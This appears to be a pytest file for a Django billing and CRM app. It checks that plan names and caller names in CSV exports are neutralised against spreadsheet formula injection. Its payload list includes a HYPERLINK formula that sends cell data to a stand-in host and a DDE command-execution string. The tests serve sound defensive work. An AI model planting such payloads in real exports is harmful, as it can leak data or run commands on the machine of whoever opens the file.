"""Every CSV we write shows a formula-looking cell as text: a leading =, +, -, @, tab or carriage return gets an
apostrophe (config.spreadsheet.neutralise, the one helper every writer uses). The attacker types a formula
where we will later export it (a caller's name, a plan's name) and waits for someone to open the file in a
spreadsheet, which would run it (a tab or carriage return is eaten as a separator, leaving the = in front)."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django_tenants.utils import schema_context

from billing.models import AgencyBilling, Plan
from billing.render import statement_csv
from billing.selectors import statement_compute
from crm.models import Contact

pytestmark = pytest.mark.django_db

PAYLOADS = ['\t=HYPERLINK("http://evil.test/?"&A1,"Open")', '\r=cmd|" /c calc"!A1', "=1+1", "@SUM(A1)"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_plan_name_in_a_statement_csv_is_not_a_formula(personas, payload):
    plan = Plan.objects.create(name=payload, monthly_price=Decimal("49.00"))
    AgencyBilling.objects.create(agency=personas.northwind, plan=plan, time_zone="America/Chicago")
    data = statement_compute(kind="platform", agency=personas.northwind, client=None, month=date(2026, 11, 1))
    rows = list(csv.reader(io.StringIO(statement_csv(data))))
    assert rows[1][0] == f"'{payload} plan, monthly fee"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_callers_name_in_the_contacts_csv_is_not_a_formula(web, personas, payload):
    with schema_context(personas.acme.schema_name):
        Contact.objects.create(phone_number="+13125550177", name=payload)
    response = web("acme.localhost", personas.alice).get("/contacts/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][1] == f"'{payload}"
